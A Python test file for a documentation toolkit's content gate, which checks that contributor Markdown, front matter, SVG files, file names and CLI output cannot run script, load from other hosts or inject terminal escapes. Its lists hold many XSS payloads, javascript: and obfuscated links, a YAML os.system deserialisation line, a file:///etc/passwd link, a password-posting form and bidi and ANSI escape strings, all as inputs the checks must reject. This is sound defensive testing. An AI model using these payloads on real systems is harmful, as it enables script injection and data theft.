"""Nothing that a contributor writes becomes a script, loads from another host, or moves a terminal: the gate for text."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Mapping
from functools import partial
from pathlib import Path

import markdown
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from speed import TRIES, seconds_of

from toolkit.app.cli import main
from toolkit.characters import refused, visible, visible_lines
from toolkit.checks import markdown as gate
from toolkit.checks.links import EXTENSIONS
from toolkit.checks.markup import judge_html, judge_nesting
from toolkit.checks.pages import check_page, check_pages
from toolkit.checks.pictures import judge_picture
from toolkit.problems import Problem, report, shorten, unknown

CHAPTER = "docs/guide/x.md"
CONTRIBUTING = "docs/contributing/x.md"
HOME = "docs/index.md"

HOSTILE = (
    # HTML that runs, loads, frames or sends
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "text <script\n>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`a\n<script>alert(1)</script>\nb`",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.png'>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<title>",
    "<plaintext>",
    "<textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</div></main><h1>Ours</h1>",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--> <script>alert(1)</script> -->",
    "<!-- --!> <script>alert(1)</script> -->",
    "<!-- a\nb -->",
    "<!-- html -->\n<b onclick=alert(1)>x</b>\n<!-- /html -->",
    "`<!-- html -->`",
    '<div markdown="1">\n[x](javascript:alert(1))\n</div>',
    "<br onclick=alert(1)>",
    "<small style=position:fixed>x</small>",
    "<kbd\n>x</kbd>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://good.example" target=_blank>x</a>',
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](tel:123)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](/\\evil.example)",
    "[x](https://good.example@evil.example/)",
    '[x](https://good.example"onclick=alert(1))',
    "[x](page.md 'a\"onclick=alert(1)')",
    '[x](page.md "<script>alert(1)</script>")',
    "[x](page.md){onclick=alert(1)}",
    "[x]({talk easy})",
    "[x](javascript&colon;alert(1))",
    "[x]()",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "[a]\n\n   [a]: <javascript:alert(1)>",
    "> [a]: javascript:alert(1)\n\n[a]",
    "- [a]: javascript:alert(1)\n\n[a]",
    "1. - > [a]:\n  javascript:alert(1)\n\n[a]",
    "[a\nb]: javascript:alert(1)",
    "!!! note\n    [a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<ftp://evil.example>",
    '<https://evil.example/"onclick=alert(1)>',
    '<x@y.example?body=">',
    "<https://a.example/?b&#x22;c>",
    "[x](https://a.example/?b&quot;c)",
    # pictures
    "![x](https://evil.example/p.png)",
    "![x](//evil.example/p.png)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![a [b](c.md) d](https://evil.example/p.png)",
    "![x][a]",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](<a.png>)',
    "[![x](https://evil.example/p.png)](page.md)",
    # attributes
    "# Heading { onclick=alert(1) }",
    "# Heading {: onclick='alert(1)' }",
    "text\n{: onclick=alert(1) }",
    "*x*{onclick=alert(1)}",
    "*x*{: style=position:fixed;inset:0 }",
    "*x*{ .md-overlay }",
    "*x*{ #__search }",
    "| a |\n| - |\n| b {onclick=alert(1)} |",
    "``` { .js onclick=alert(1) }\nx\n```",
    "~~~ {.js #a data-x=1}\nx\n~~~",
    "```js onclick=alert(1)\nx\n```",
    "*x*{hidden} }onclick=alert(1)}",
    "[x](https://a.example){ target }",  # an opened page can send the one that opened it elsewhere
    "[x](https://a.example){: x Target y }",
    "*x*{ hidden }",
    "*x*{: hidden }",
    "x\n{: popover }",
    "## __search",
    "## &#95;&#95;search",
    "## &lowbar;&lowbar;drawer",
    "## \uff3f\uff3fsearch",
    "## \u0436__search",
    "## ![x](a.svg)__search",
    "## [](a.md)__search",
    "## <br>__search",
    # elements that reach beyond their place: all that follows would be small
    "<small>x",
    "<small>x\n\ny</small>",
    "a </small> b",
    "<small> `</small>`",
    "*<small>x* y</small>",
    "<sup><sup><sup>x</sup></sup></sup>",
    "| <kbd>a | b</kbd> |\n| - | - |",
    "## <'\uff3f>_x",
    # boxes
    '<!-- a -->!!! md-overlay "x"',
    '1. !!! md-overlay "x"',
    "<br>``` { .js onclick=alert(1) }\nx\n```",
    '!!! note md-overlay "x"',
    '??? x"onclick=alert(1)',
    '!!! md-search__overlay "x"',
    # characters
    "a\u202eb",
    "a\u2066b",
    "a\x1b[31mb",
    "a\x00b",
    "a\x02wzxhzdk:0\x03b",
    "a\x85b",
    "a\u2028b",
    "a\u200bb",
    "a\u00adb",
    "a\ue000b",
    "a\ufeffb",
    "a\ufdd0b",
    "a\U000e0041b",
    "a\U0001fffeb",
    "e\u0301",
    "a" + "\u0301\u0302\u0303",
    "x\u200dy",
    "x\u200d\u2640",
    "x\ufe0f\u200d\u2640",
    "\U0001f3c3\u200dx",
    "\U0001f3c3\u200d",
    "\U0001f3c3\u200d\u200d\u2640",
    "\U0001f3c3\u200c\u2640",
    "a\rb",
    "a&#x202e;b",
    "a&#8238;b",
    "a&#X202E b",
    "a&#2;b",
    "a&#0;b",
    "a&#xE000;b",
    "a&shy;b",
    "a&ZeroWidthSpace;b",
    "a&#x301;b",
    "`a&#x202e;b`",
    # sizes
    "[" * 400,
    "> " * 60 + "x",
    " " * 100 + "- x",
    "x" * 70_000,
)


def page(path: str, text: str) -> list[str]:
    return [str(problem) for problem in check_page(path, text)]


def rendered(text: str) -> str:
    return markdown.markdown(text, extensions=EXTENSIONS)


def harm(html: str) -> list[tuple[int, int, str]]:
    """What the build refuses of HTML."""
    return [*judge_html(html), *judge_nesting(html)]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_page_holds_what_is_hostile(text: str) -> None:
    for before in ("", "# A heading\n\n", "- a\n\n    "):
        assert page(CHAPTER, before + text), before
    for path in (HOME, CONTRIBUTING):  # there nothing takes values, nor comments for marks
        assert page(path, f"# Heading\n\n{text}") or text == "`<!-- html -->`"


COVERING = (
    '<div class="md-overlay">x</div>',
    '<nav class="md-nav md-nav--primary">x</nav>',
    '<p class="tiles md-header">x</p>',
    "</div></div></div>\n\nbelow the page",
    "<div hidden>\n\nall that follows is not seen",
    "<table>\n<tr><td>\n\nall that follows is a cell",
    "<ul>\n<li><div>\n<li>x</li>\n</div></li>\n</ul>",
    "<div/>",
    "<details>\n<summary>x</summary>",
    '<p title="&#x202e;">x</p>',
)


@pytest.mark.parametrize("text", COVERING)
def test_no_page_of_the_house_reaches_beyond_its_place(text: str) -> None:
    assert page(HOME, f"# Heading\n\n{text}\n")
    assert harm(text)


def test_an_element_that_reaches_beyond_its_place_is_named_where_it_begins() -> None:
    said = page(HOME, '# Heading\n\n<div class="hero">\n<ul class="tiles">\n<li>a</li>\n</ul>\n\nText *b*.\n')
    assert [line.split("\n")[0] for line in said] == ["docs/index.md:3:1: <div> is not closed. Begin and end it in the same place."]


FRONT = (
    "title: 'T\"><script>alert(1)</script>'",
    "title: T</title><script>alert(1)</script>",
    'title: "a\\u003cscript>"',
    "title: [a, b]",
    "title: {a: b}",
    "title: &a x",
    "title: !!python/object/apply:os.system [id]",
    'title: "\\e[31m"',
    'title: "a\\u202eb"',
    "template: evil.html",
    "extra_javascript: [https://evil.example/x.js]",
    "og_image: https://evil.example/x.png",
    "hide: [header]",
    "hide: navigation",
    "search: {boost: 99}",
    "robots: 'x\"><script>'",
    "description: |\n  a\n  <b>",
    "description: ''",
    '"title ": x',
    "title: x\ntitle: y",
    "x",
)


@pytest.mark.parametrize("text", FRONT)
def test_no_front_matter_says_what_is_not_listed(text: str) -> None:
    assert page(CHAPTER, f"---\n{text}\n---\n\n# Heading\n")


def test_front_matter_that_is_not_ended_or_not_begun_is_a_problem() -> None:
    assert page(CHAPTER, "---\ntitle: x\n\n# Heading\n")
    assert page(CHAPTER, 'title: x"><script>\n\n# Heading\n')
    assert page(CHAPTER, "description: plain\n# Heading\n")


HARMLESS = (
    "---\ntitle: A page\ndescription: Run, “rest” & repeat; it’s 5 or more.\nhide: [navigation, toc]\n---\n\n# Heading\n",
    "# A heading { #its-id }\n\nText with *emphasis*, **weight**, `code`, 3 < 4, a & b, R&D, &lt;x&gt; and 50 % {rpe easy}.",
    "[a](b.md) [c](../d/e.md#f) [g](https://en.example.org/wiki/A_%28b%29?x=1&y=2#z) [h](mailto:who@where.example)",
    '[a](b.md "A title") <https://a.example/b> <who@where.example>',
    "![A picture](a.svg)",
    "- a\n    - b\n\n1. c\n\n> d\n\n| a | b |\n| --- | ---: |\n| c | d |\n",
    '!!! note "A title"\n    Text.\n\n??? tip\n    Text.\n',
    "```yaml\na: [b, c]\n```\n",
    "H<sub>2</sub>O, x<sup>2</sup>, <small>or [b](a.md)</small>, <kbd>Esc</kbd>, a<br>b<br />c, `templates/<kind>/<id>.yaml`",
    "<!-- Words for whoever reads the source -->\n\nText.",
    "Zoë, naïve, ½, 5 °C, → ↔ − × ☐ ✓, “quotes”, non\u00a0breaking, 😀, 🏃\u200d♀️ 👩🏽\u200d⚕️ ❤️\u200d🔥, می\u200cخواهم",
)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_pages_need_passes_and_comes_out_as_it_should(text: str) -> None:
    assert page(CHAPTER, text) == []
    assert harm(rendered(re.sub(r"\A---.*?---", "", text, flags=re.DOTALL))) == []


def test_a_problem_says_where_it_is_and_what_to_write() -> None:
    text = "---\ntitle: A\n---\n\n# Heading\n\nOne [two](javascript:three) four.\n"
    assert page(CHAPTER, text) == [
        "docs/guide/x.md:7:11: “javascript:three” cannot be linked. Write https://…, mailto:… or a page, ../guide/pain.md.\n"
        "    One [two](javascript:three) four.\n              ^"
    ]


PIECES = st.sampled_from(
    [
        *"<>/![](){}:#.=\"'`;&*_|\\ \n\t",
        *(
            "```",
            "~~~",
            "\n\n",
            "    ",
            "\n| - |\n",
            "- ",
            "> ",
            "1. ",
            "!!! note",
            "??? tip",
            '=== "a"',
            "<br>",
            "<sub>",
            "</sub>",
            "<id>",
        ),
        *(
            "script",
            "img",
            "onclick",
            "src",
            "href",
            "javascript:",
            "https://a.example/",
            "//b.example",
            "&#106;",
            "&#95;",
            "_",
            "</small>",
            "<small>",
            "*a**a*&lt;",
            "<!-- a -->!!!",
            "\u0436",
            "\uff3f",
            "&lt;",
            "x",
            "a.md",
        ),
        *("style", "<!-- a -->", "<!--", "-->", "{ #a }", "{rpe easy}", "[a]: ", "![a](b.svg)", "[a](b.md)", "<https://a.example>"),
        *("data:", "h1", "\r\n"),
    ]
)


TEXTS = st.lists(PIECES, max_size=24).map("".join)


def whatever_passes_comes_out_harmless(text: str) -> None:
    """The gate looks at Markdown, the judge at the HTML that the real library makes of it: neither knows how the other works."""
    for path in (CHAPTER, CONTRIBUTING):
        if not page(path, f"# Heading\n\n{text}"):
            said = re.sub(r"\{[a-z][^{}\n]*\}", "a value", text) if path == CHAPTER else text
            assert harm(rendered(f"# Heading\n\n{said}")) == []


@given(TEXTS)
@settings(max_examples=400, deadline=None, derandomize=True)
def test_whatever_passes_comes_out_of_markdown_harmless(text: str) -> None:
    whatever_passes_comes_out_harmless(text)


@pytest.mark.exhaustive
@given(TEXTS)
@settings(max_examples=3000, deadline=None, derandomize=True)
def test_whatever_passes_of_many_texts_comes_out_of_markdown_harmless(text: str) -> None:
    whatever_passes_comes_out_harmless(text)


HURTING = (
    "[",
    "![",
    "](",
    "{",
    "<",
    "<!",
    "<!--",
    "<a ",
    "<small>",
    "<small>[a](b)",
    "&#8238;",
    "_ ",
    "`",
    "```\n",
    "&",
    "> ",
    "- ",
    " ",
    "\n",
    "[a](",
    "a@",
    "[a]: ",
    "{a ",
    "x=}",
    "1.",
    "|",
)


LOOKS: Mapping[str, Callable[[str], Iterable[object]]] = {
    **{rule.__name__: rule for rule in (*gate._RULES, gate._pictures, gate._links)},
    **{f"tags, {chapter=}": partial(gate._tags, chapter=chapter, own=True) for chapter in (True, False)},
    **{f"braces, {chapter=}": partial(gate._braces, chapter=chapter) for chapter in (True, False)},
    "refused": refused,
}
SHORT, LONG = 8 * 1024, 64 * 1024
"""Characters of two texts; what grows with the square of the length takes 64 times as long on the second."""
MOST_GROWTH = 24
"""How many times as long the second may take: eight, and three times as much on a machine that does other things besides."""


@pytest.mark.parametrize("piece", HURTING)
def test_no_expression_grows_with_the_square_of_text_made_to_hurt(piece: str) -> None:
    for before in ("", "x" * 1000):
        for name, look in LOOKS.items():
            short, long = (before + piece * (length // len(piece)) for length in (SHORT, LONG))
            slow, fast = (partial(lambda look, text: list(look(text)), look, text) for text in (long, short))
            took = seconds_of(slow)
            if took > 0.02:
                most = MOST_GROWTH * min(seconds_of(fast) for _ in range(TRIES))
                assert took < most or any(seconds_of(slow) < most for _ in range(TRIES)), name


FILES = {
    "docs/guide/page.html": "<script>alert(1)</script>",
    "docs/guide/page.htm": "x",
    "docs/page.markdown": "# x",
    "docs/page.mkd": "# x",
    "docs/evil.js": "alert(1)",
    "docs/guide/evil.css": "a{}",
    "docs/assets/javascripts/bundle.min.js": "alert(1)",
    "docs/assets/stylesheets/main.min.css": "a{}",
    "docs/x.svgz": "x",
    "docs/x.xml": "<x/>",
    "docs/assets/x.wasm": "x",
    "docs/assets/x": "x",
    "docs/a b.md": "# x",
    "docs/é.md": "# x",
    "docs/\x1b]0;x\x07.md": "# x",
    "docs/a\nb.md": "# x",
    "docs/<img src=x onerror=alert(1)>.md": "# x",
    "docs/x&quot;/y.md": "# x",
    "docs/p.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
}


@pytest.mark.parametrize("path", FILES)
def test_only_pages_pictures_and_fonts_are_published_from_docs(tmp_path: Path, path: str) -> None:
    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / path).write_text(FILES[path])
    assert [problem.path for problem in check_pages(tmp_path)] == [path]


def test_a_link_to_what_is_not_ours_is_not_published(tmp_path: Path) -> None:
    (tmp_path / "p/docs/guide").mkdir(parents=True)
    (tmp_path / "secret.txt").write_text("x")
    (tmp_path / "folder").mkdir()
    (tmp_path / "p/docs/a.txt").symlink_to(tmp_path / "secret.txt")
    (tmp_path / "p/docs/b").symlink_to(tmp_path / "folder")
    (tmp_path / "p/docs/c.txt").symlink_to(tmp_path / "p/docs/c.txt")
    assert [problem.path for problem in check_pages(tmp_path / "p")] == ["docs/a.txt", "docs/b", "docs/c.txt"]


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml">{}</svg>'
PICTURES = (
    "<script>alert(1)</script>",
    "<h:script>alert(1)</h:script>",
    "<foreignObject><h:iframe/></foreignObject>",
    '<path onload="alert(1)"/>',
    '<path xlink:href="https://evil.example"/>',
    '<a href="javascript:alert(1)"><path/></a>',
    '<use href="https://evil.example/x.svg#a"/>',
    '<image href="https://evil.example/p.png"/>',
    '<set attributeName="onload" to="alert(1)"/>',
    '<animate attributeName="href" values="javascript:alert(1)"/>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>a{background:url(https://evil.example)}</style>",
    "<style>a{background:u\\72l(https://evil.example)}</style>",
    "<style>a{background:u<tspan/>rl(https://evil.example)}</style>",
    "<style>a{background:image-set('https://evil.example/p.png' 1x)}</style>",
    "<style>a{background:-webkit-image-set('https://evil.example/p.png' 1x)}</style>",
    "<path style=\"cursor:image-set('https://evil.example/p.png' 1x),auto\"/>",
    '<path fill="src(&#34;https://evil.example&#34;)"/>',
    "<text>a&#x202e;b</text>",
    '<path style="fill:url(https://evil.example)"/>',
    '<path fill="url(https://evil.example#a)"/>',
    "<path>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
)


@pytest.mark.parametrize("inside", PICTURES)
def test_a_picture_runs_and_loads_nothing(inside: str) -> None:
    assert judge_picture(SVG.format(inside))


def test_a_picture_declares_nothing_and_may_have_shapes_words_and_colours() -> None:
    assert judge_picture('<!DOCTYPE svg [<!ENTITY a "b">]>' + SVG.format("<text>&a;</text>"))
    assert (
        judge_picture(SVG.format('<g class="a"><path d="M0 0" fill="#fff"/><text x="1">a</text></g><style>.a{fill:red}</style>'))
        == []
    )
    assert (
        judge_picture(
            SVG.format(
                '<defs><linearGradient id="url"><stop stop-color="rgb(1, 2, 3)"/></linearGradient></defs>'
                '<g transform="translate(1 2) rotate(3)" class="curl" aria-label="What is important (0 to 10)">'
                '<path fill="url(#url)"/></g>'
                "<style>@media (prefers-color-scheme: dark) { .a { fill: hsl(1 2% 3%) } }</style>"
            )
        )
        == []
    )


def test_a_terminal_gets_only_what_is_seen() -> None:
    name = "x\x1b]0;title\x07\u202e\nplans/good.yaml:1:1: fine"
    said = report(
        [Problem(f"plans/{name}.yaml", 1, 1, f"wrong: {name}", f"a: {name}"), Problem("b", 1, 1, unknown("cue", name, [name]))]
    )
    assert not any(refused(said.replace("\ufffd", "?")))
    assert len(said.splitlines()) == 6
    assert "plans/x[U+001B]]0;title[U+0007][U+202E][U+000A]plans/good.yaml" in said
    assert visible("a\udcffb\tc") == "a[U+DCFF]b[U+0009]c"
    assert visible_lines("a\x1b\nb") == "a[U+001B]\nb"
    assert shorten("a\x1b") == "a[U+001B]"


ESCAPES = "\x1b]0;title\x07\x1b[31m\u202e"


@pytest.mark.parametrize(
    "arguments",
    [
        ["show", "plan", f"5k{ESCAPES}", "--level", "advanced"],
        ["show", "session", ESCAPES, "--level", "advanced"],
        ["show", "session", "two-minutes", "--level", ESCAPES],
        [f"check{ESCAPES}"],
        ["check", f"--{ESCAPES}"],
        ["check", f"x{ESCAPES}"],
        [f"--{ESCAPES}"],
        ["build", "--to", f"/proc/{ESCAPES}"],
        ["calendar", "small", "--level", "intermediate", "--race", f"2027{ESCAPES}", "--output", "x.ics"],
        ["missed", ESCAPES, "--level", "advanced", "--week", "1", "--days", "9"],
    ],
)
def test_wrong_usage_sends_a_terminal_nothing_that_was_typed_raw(
    small: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str]
) -> None:
    monkeypatch.chdir(small)
    result = CliRunner().invoke(main, arguments)
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    assert not any(refused(result.output))


def test_check_shows_a_hostile_name_of_a_file_as_characters(small: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (small / f"templates/easy/{ESCAPES}.yaml").write_text("title: x\n")
    (small / "templates/easy/a\nplans\udcff.yaml").write_text("title: x\n")
    monkeypatch.chdir(small)
    result = CliRunner().invoke(main, ["check"])
    assert result.exit_code == 1
    assert "templates/easy/[U+001B]]0;title[U+0007]" in result.output
    assert not any(refused(result.output.replace("\ufffd", "?")))


@pytest.mark.parametrize("name", ["a\nb", "a  b", " a", "a\t"])
@pytest.mark.parametrize("folder", ["easy", "exercises"])
def test_spaces_in_the_name_of_a_sound_file_are_answered_at_the_file(
    small: Path, monkeypatch: pytest.MonkeyPatch, folder: str, name: str
) -> None:
    sound = next((small / "templates" / folder).glob("*.yaml")).read_text("utf-8")
    (small / f"templates/{folder}/{name}.yaml").write_text(sound, "utf-8")
    monkeypatch.chdir(small)
    result = CliRunner().invoke(main, ["check"])
    assert result.exit_code == 1
    assert not isinstance(result.exception, KeyError)
    assert f"templates/{folder}/{visible(name)}.yaml:1:1: the name “{visible(name)}” cannot be an id." in result.output
